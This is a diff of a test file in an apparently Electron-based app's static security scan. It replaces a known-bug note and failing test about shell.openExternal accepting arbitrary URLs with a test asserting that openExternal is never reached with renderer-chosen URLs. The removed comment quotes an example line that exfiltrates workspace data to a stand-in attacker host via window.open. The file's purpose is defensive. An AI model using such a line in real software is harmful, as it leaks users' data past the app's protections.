@@ -66,13 +66,8 @@ describe('static Electron security scan', () => {
     expect(findings).toEqual([]);
   });
 
-  // KNOWN BUG (electron/main/security.ts): setWindowOpenHandler passes ANY https:// URL the renderer
-  // asks for to shell.openExternal. A renderer that runs hostile script (an XSS through imported text,
-  // say) can then send workspace data out in a URL — `window.open('https://attacker/?d=' + data)` —
-  // past the CSP and the offline request filter. Fix: an `isAllowedExternalUrl(url)` in policy.ts (a
-  // short allow-list of documentation URLs, exact origin and path prefix, no query string), tested
-  // there, and `if (isAllowedExternalUrl(url)) void shell.openExternal(url);`. Remove `.fails` then.
-  it.fails('KNOWN BUG: shell.openExternal is only reached for allow-listed URLs', () => {
+  // The shell never hands a URL to the system browser (a URL is a way out for workspace data).
+  it('shell.openExternal is never reached with a URL the renderer chose', () => {
     expect(
       scanDirs([path.join(ELECTRON, 'main')]).filter((f) => f.rule === 'open-external-unvalidated'),
     ).toEqual([]);
